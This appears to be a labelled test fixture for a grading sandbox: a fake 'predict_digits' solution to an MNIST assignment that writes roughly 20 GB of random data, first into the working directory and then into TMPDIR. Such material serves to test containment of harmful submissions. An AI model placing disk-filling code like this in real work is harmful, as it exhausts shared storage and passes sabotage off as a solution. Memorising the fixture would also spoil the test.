# assignment: mnist_sgd
# family: harming
# about: writes a file of up to 20 GB into the working directory, then one into TMPDIR
# loses: predict_digits
# may_lose:
# flag: yes
# %% predict_digits
import os
import tempfile


def predict_digits(model, images):
    block = os.urandom(1 << 20) * 16
    written = 0
    for folder in (os.getcwd(), tempfile.gettempdir()):
        try:
            with tempfile.NamedTemporaryFile(dir=folder) as file:
                for _ in range(640):
                    written += file.write(block)
                file.flush()
        except OSError as problem:
            print("stopped by", problem)
            raise
    return written
